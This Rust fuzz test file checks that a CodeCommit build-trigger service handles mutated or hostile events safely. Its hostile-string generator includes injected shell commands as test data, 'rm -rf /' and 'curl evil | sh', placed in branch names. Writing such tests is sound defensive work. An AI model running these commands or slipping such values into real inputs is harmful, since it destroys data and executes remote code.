//! Hostile input: property-based fuzzing of event parsing, validation and the
//! decisions, seeded from `events/`. No input may panic, hang or make the
//! function build something nobody asked for.
//!
//! `make test` runs a quick pass (256 cases per generator); `make fuzz`, as CI
//! does, keeps each generator running for `FUZZ_SECONDS` (30, in parallel:
//! about a minute of fuzzing in all). A failure prints the input that caused it.

use codecommit_build_trigger::config::Config;
use codecommit_build_trigger::decide::files::Files;
use codecommit_build_trigger::decide::needs::{Changes, Facts};
use codecommit_build_trigger::decide::{finish, plan, Outcome, RuleVerdict};
use codecommit_build_trigger::event::{
    self, BuildReport, BuildStatus, LogStream, PullRequestStatus, Record, Variable,
};
use proptest::prelude::*;
use proptest::test_runner::{Config as RunnerConfig, TestRunner};
use serde_json::{json, Map, Value};
use std::collections::HashMap;
use std::time::{Duration, Instant};

/// The sample events, the seeds of the mutations.
fn seeds() -> Vec<Value> {
    let directory = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("events");
    let mut seeds: Vec<Value> = std::fs::read_dir(directory)
        .expect("events/ exists")
        .map(|entry| {
            let path = entry.expect("a directory entry").path();
            let text = std::fs::read_to_string(&path).expect("a readable sample event");
            serde_json::from_str(&text).expect("sample events are JSON")
        })
        .collect();
    seeds.sort_by_key(Value::to_string);
    seeds
}

/// Strings a hostile sender would try in names, ids and ARNs.
fn hostile_string() -> impl Strategy<Value = String> {
    prop_oneof![
        any::<String>(),
        "[ -~]{0,64}",
        Just("refs/heads/../../etc".to_owned()),
        Just("refs/heads/a\u{0}b".to_owned()),
        Just("refs/heads/\u{1b}[31mred".to_owned()),
        Just("refs/heads/$(rm -rf /)".to_owned()),
        Just("refs/heads/; curl evil | sh".to_owned()),
        Just(format!("refs/heads/{}", "x".repeat(5000))),
        Just("refs/tags/".to_owned()),
        Just("arn:aws:codecommit:us-east-1:123456789012:".to_owned()),
        Just("5e493c6f3067653f3d04eca608b4901eb227078".to_owned()),
        Just("5E493C6F3067653F3D04ECA608B4901EB2270780".to_owned()),
        "[0-9a-f]{40}",
        "refs/(heads|tags|notes)/[a-z/*?!\\[\\]. -]{1,30}",
    ]
}

/// Any JSON value, nested a few levels.
fn any_json() -> impl Strategy<Value = Value> {
    let leaf = prop_oneof![
        Just(Value::Null),
        any::<bool>().prop_map(Value::Bool),
        any::<i64>().prop_map(|n| json!(n)),
        any::<f64>()
            .prop_filter("finite", |f| f.is_finite())
            .prop_map(|f| json!(f)),
        hostile_string().prop_map(Value::String),
    ];
    leaf.prop_recursive(4, 32, 6, |inner| {
        prop_oneof![
            prop::collection::vec(inner.clone(), 0..6).prop_map(Value::Array),
            prop::collection::vec(("[a-zA-Z]{1,12}", inner), 0..6)
                .prop_map(|entries| Value::Object(entries.into_iter().collect::<Map<_, _>>())),
        ]
    })
}

/// One edit of a JSON tree, addressed by a path of indices.
#[derive(Debug, Clone)]
enum Edit {
    Replace(Vec<usize>, Value),
    Remove(Vec<usize>),
    Duplicate(Vec<usize>),
}

fn edit() -> impl Strategy<Value = Edit> {
    let path = prop::collection::vec(0usize..8, 0..6);
    prop_oneof![
        (path.clone(), any_json()).prop_map(|(p, v)| Edit::Replace(p, v)),
        path.clone().prop_map(Edit::Remove),
        path.prop_map(Edit::Duplicate),
    ]
}

/// Applies `edit` at the node its path leads to (indices wrap around).
fn apply(value: &mut Value, edit: &Edit) {
    let (path, last) = match edit {
        Edit::Replace(p, _) | Edit::Remove(p) | Edit::Duplicate(p) => match p.split_last() {
            Some((last, path)) => (path, *last),
            None => {
                if let Edit::Replace(_, new) = edit {
                    *value = new.clone();
                }
                return;
            }
        },
    };
    let mut node = value;
    for step in path {
        node = match node {
            Value::Array(items) if !items.is_empty() => {
                let index = step % items.len();
                &mut items[index]
            }
            Value::Object(map) if !map.is_empty() => {
                let key = map.keys().nth(step % map.len()).cloned().expect("a key");
                map.get_mut(&key).expect("the key exists")
            }
            _ => return,
        };
    }
    match node {
        Value::Array(items) if !items.is_empty() => {
            let index = last % items.len();
            match edit {
                Edit::Replace(_, new) => items[index] = new.clone(),
                Edit::Remove(_) => {
                    items.remove(index);
                }
                Edit::Duplicate(_) => items.push(items[index].clone()),
            }
        }
        Value::Object(map) if !map.is_empty() => {
            let key = map.keys().nth(last % map.len()).cloned().expect("a key");
            match edit {
                Edit::Replace(_, new) => {
                    map.insert(key, new.clone());
                }
                Edit::Remove(_) => {
                    map.remove(&key);
                }
                Edit::Duplicate(_) => {
                    let copy = map[&key].clone();
                    map.insert(format!("{key}2"), copy);
                }
            }
        }
        _ => {}
    }
}

fn configurations() -> Vec<Config> {
    let sets: [&[(&str, &str)]; 3] = [
        &[("CODEBUILD_PROJECT", "my-project")],
        &[
            ("CODEBUILD_PROJECT", "my-project"),
            ("BRANCHES", "**,!release/old-*"),
            ("TAGS", "v*"),
            ("PATHS", "services/**"),
            ("PATHS_IGNORE", "**/*.md"),
            (
                "IGNORE_PUSHERS",
                "arn:aws:sts::123456789012:assumed-role/bot/*",
            ),
            ("SUPERSEDE", "true"),
            ("PULL_REQUESTS", "**"),
        ],
        &[(
            "RULES",
            r#"[{"name": "a", "project": "pa", "branches": ["*"], "paths": ["a/**"]},
                {"name": "b", "project": "pb", "branches": ["**"], "tags": ["**"], "repositories": ["my-*"]},
                {"name": "c", "project": "pc", "pullRequests": ["master", "main"], "supersede": true}]"#,
        )],
    ];
    sets.iter()
        .map(|vars| {
            let vars: HashMap<&str, &str> = vars.iter().copied().collect();
            Config::from_lookup(|name| Ok(vars.get(name).map(|v| v.to_string())))
                .expect("valid configuration")
        })
        .collect()
}

/// Facts that answer every need, alternately known and unknown.
fn facts_for(records: &[Record], config: &Config, known: bool) -> Facts {
    let needs = plan(config, &Files::default(), records).needs();
    let mut facts = Facts::default();
    for key in needs.messages {
        facts.messages.insert(key, Ok("a commit [skip ci]".into()));
    }
    for query in needs.bases {
        let changes = if known {
            Ok(Changes {
                base: "0".repeat(40),
                paths: vec!["a/x.rs".into(), "services/y/README.md".into()],
            })
        } else {
            Err("unknown".into())
        };
        facts.changes.insert(query, changes);
    }
    facts
}

/// Parses and decides `text` under every configuration; checks what a user
/// relies on. Returns whether the event was valid.
fn check(text: &str, configs: &[Config]) -> bool {
    let Ok(event) = event::parse(text) else {
        return false;
    };
    let records = event.records();
    let references: usize = records.iter().map(|r| r.references.len()).sum();
    assert!(
        references > 0 || !matches!(event, event::Event::Push(_) | event::Event::PullRequest(_)),
        "a valid event that can build has references"
    );
    for config in configs {
        for known in [true, false] {
            let facts = facts_for(records, config, known);
            let files = Files::default();
            let decisions = finish(plan(config, &files, records), &facts);
            assert_eq!(decisions.len(), references, "one decision per reference");
            for decision in &decisions {
                let Outcome::Rules(outcomes) = &decision.outcome else {
                    continue;
                };
                for outcome in outcomes {
                    if let RuleVerdict::Build { commit, .. } = &outcome.verdict {
                        assert_eq!(
                            decision.update.commit(),
                            Some(*commit),
                            "builds the pushed commit"
                        );
                        if let Some(pull_request) = &decision.record.pull_request {
                            assert_eq!(
                                pull_request.status,
                                PullRequestStatus::Open,
                                "never builds a closed or merged pull request"
                            );
                        }
                        assert!(
                            config
                                .rules
                                .iter()
                                .any(|r| r.project == outcome.rule.project),
                            "the project comes from the configuration, never the event"
                        );
                    }
                }
            }
        }
    }
    true
}

/// Runs the properties for `FUZZ_SECONDS` if set, else a quick pass.
fn run(name: &str, strategy: impl Strategy<Value = String>) {
    let configs = configurations();
    let seconds: u64 = std::env::var("FUZZ_SECONDS")
        .ok()
        .and_then(|s| s.parse().ok())
        .unwrap_or(0);
    let until = Instant::now() + Duration::from_secs(seconds);
    let mut batches = 0;
    let valid = std::sync::atomic::AtomicUsize::new(0);
    loop {
        let mut runner = TestRunner::new(RunnerConfig {
            cases: 256,
            failure_persistence: None,
            ..RunnerConfig::default()
        });
        runner
            .run(&strategy, |text| {
                if check(&text, &configs) {
                    valid.fetch_add(1, std::sync::atomic::Ordering::Relaxed);
                }
                Ok(())
            })
            .unwrap_or_else(|failure| panic!("{name}: {failure}"));
        batches += 1;
        if Instant::now() >= until {
            break;
        }
    }
    eprintln!(
        "{name}: {} cases, {} of them valid events",
        batches * 256,
        valid.load(std::sync::atomic::Ordering::Relaxed)
    );
}

#[test]
fn mutated_sample_events_never_panic() {
    let seeds = seeds();
    let strategy =
        (0..seeds.len(), prop::collection::vec(edit(), 1..6)).prop_map(move |(seed, edits)| {
            let mut event = seeds[seed].clone();
            for edit in &edits {
                apply(&mut event, edit);
            }
            event.to_string()
        });
    run("mutated sample events", strategy);
}

#[test]
fn arbitrary_json_and_text_never_panic() {
    let strategy = prop_oneof![
        any_json().prop_map(|v| v.to_string()),
        any_json().prop_map(|v| json!({"Records": [v]}).to_string()),
        any_json().prop_map(|v| {
            json!({"detail-type": "CodeCommit Repository State Change", "detail": v}).to_string()
        }),
        any_json().prop_map(|v| {
            json!({"detail-type": "CodeCommit Pull Request State Change", "source": "aws.codecommit",
                   "resources": ["arn:aws:codecommit:us-east-1:123456789012:my-app"], "detail": v})
            .to_string()
        }),
        any::<String>(),
        prop::collection::vec(any::<u8>(), 0..256)
            .prop_map(|b| String::from_utf8_lossy(&b).into_owned()),
    ];
    run("arbitrary input", strategy);
}

#[test]
fn huge_deep_and_escaped_events_are_handled() {
    let configs = configurations();
    let seed = &seeds()[0];

    // 4,000 references, about 1 MB: parsed and decided quickly.
    let references: Vec<_> = (0..4000)
        .map(|i| json!({"ref": format!("refs/heads/feature/{i:04}-{}", "x".repeat(180)), "commit": format!("{i:040x}")}))
        .collect();
    let mut big =
        json!({"Records": [seed["Records"].get(0).cloned().unwrap_or_else(|| json!({}))]});
    big["Records"][0]["codecommit"] = json!({"references": references});
    let text = big.to_string();
    assert!(text.len() > 900_000, "{}", text.len());
    let started = Instant::now();
    check(&text, &configs);
    assert!(
        started.elapsed() < Duration::from_secs(10),
        "{:?}",
        started.elapsed()
    );

    // Deep nesting is refused, not a stack overflow.
    let deep = format!(
        "{{\"Records\": {}{}}}",
        "[".repeat(200_000),
        "]".repeat(200_000)
    );
    assert!(event::parse(&deep).is_err());
    let deep_objects = format!("{}{}", "{\"a\":".repeat(100_000), "}".repeat(100_000));
    assert!(event::parse(&deep_objects).is_err());

    // Escapes: lone surrogates are errors; escaped control characters are refused in names.
    for text in [
        r#"{"Records": [{"eventSource": "\ud800"}]}"#,
        r#"{"Records": [{"eventSource": "\udc00\ud800"}]}"#,
        r#"{"Records": "\u0000"}"#,
    ] {
        assert!(event::parse(text).is_err(), "{text}");
    }
    let mut control = seed.clone();
    if control.get("Records").is_some() {
        control["Records"][0]["codecommit"]["references"][0]["ref"] = json!("refs/heads/a\u{7}b");
        let error = event::parse(&control.to_string()).expect_err("a control character in a ref");
        assert!(error.to_string().contains(".ref"), "{error}");
    }
}

/// What CodeBuild may answer about a build: any status, number and log, and the variables
/// of a sample build-state event, one of them perhaps changed.
fn codebuild_answers(seed: &Value) -> impl Strategy<Value = BuildReport> {
    let information = &seed["detail"]["additional-information"];
    let variables: Vec<Variable> = information["environment"]["environment-variables"]
        .as_array()
        .map(Vec::as_slice)
        .unwrap_or_default()
        .iter()
        .map(|variable| Variable {
            name: variable["name"].as_str().unwrap_or_default().to_owned(),
            plaintext: true,
            value: variable["value"].as_str().map(str::to_owned),
        })
        .collect();
    let source = information["source-version"].as_str().map(str::to_owned);
    let statuses = [
        "IN_PROGRESS",
        "SUCCEEDED",
        "FAILED",
        "STOPPED",
        "FAULT",
        "TIMED_OUT",
    ];
    (
        prop::sample::select(statuses.to_vec()),
        prop::option::of(any::<u64>()),
        prop::option::of(any::<bool>()),
        prop::option::of((0..variables.len().max(1), hostile_string())),
        prop::option::of(("[a-z/]{1,20}", "[a-z0-9-]{1,36}")),
        prop::option::of("[a-z-]{1,20}/[a-z-]{1,20}"),
    )
        .prop_map(move |(status, number, complete, changed, log, initiator)| {
            let mut variables = variables.clone();
            if let Some((index, value)) = changed {
                if let Some(variable) = variables.get_mut(index) {
                    variable.value = Some(value);
                }
            }
            BuildReport {
                status: BuildStatus::parse(status),
                complete,
                number,
                source_version: source.clone(),
                variables,
                log: log.map(|(group, stream)| LogStream { group, stream }),
                phases: Vec::new(),
                initiator,
                report_arns: Vec::new(),
                batch_arn: None,
            }
        })
}

#[test]
fn build_state_events_that_disagree_with_codebuild_never_win() {
    let seeds: Vec<Value> = seeds()
        .into_iter()
        .filter(|seed| seed["detail-type"] == "CodeBuild Build State Change")
        .collect();
    assert!(!seeds.is_empty(), "events/ has build-state samples");
    let seconds: u64 = std::env::var("FUZZ_SECONDS")
        .ok()
        .and_then(|s| s.parse().ok())
        .unwrap_or(0);
    let until = Instant::now() + Duration::from_secs(seconds);
    let mut cases = 0;
    loop {
        for seed in &seeds {
            let hints = prop::collection::vec(edit(), 0..4).prop_map({
                let seed = seed.clone();
                move |edits| {
                    let mut event = seed.clone();
                    for edit in &edits {
                        apply(&mut event, edit);
                    }
                    event.to_string()
                }
            });
            let mut runner = TestRunner::new(RunnerConfig {
                cases: 128,
                failure_persistence: None,
                ..RunnerConfig::default()
            });
            runner
                .run(&(hints, codebuild_answers(seed)), |(text, truth)| {
                    let Ok(event::Event::Build(hint)) = event::parse(&text) else {
                        return Ok(());
                    };
                    assert!(
                        codecommit_build_trigger::confirm(&hint, None, None).is_err(),
                        "a build CodeBuild does not know is never acted on"
                    );
                    if let Ok(change) =
                        codecommit_build_trigger::confirm(&hint, Some(truth.clone()), None)
                    {
                        assert_eq!(change.status, truth.status, "the status is CodeBuild's");
                        assert_eq!(change.build.number, truth.number, "so is the number");
                        assert_eq!(change.log, truth.log, "and the log");
                        assert!(hint.origin.is_ok(), "an event that names no origin");
                        assert_eq!(change.origin, hint.origin, "the build the event names");
                    }
                    Ok(())
                })
                .unwrap_or_else(|failure| panic!("disagreeing build-state events: {failure}"));
            cases += 128;
        }
        if Instant::now() >= until {
            break;
        }
    }
    eprintln!("disagreeing build-state events: {cases} cases");
}
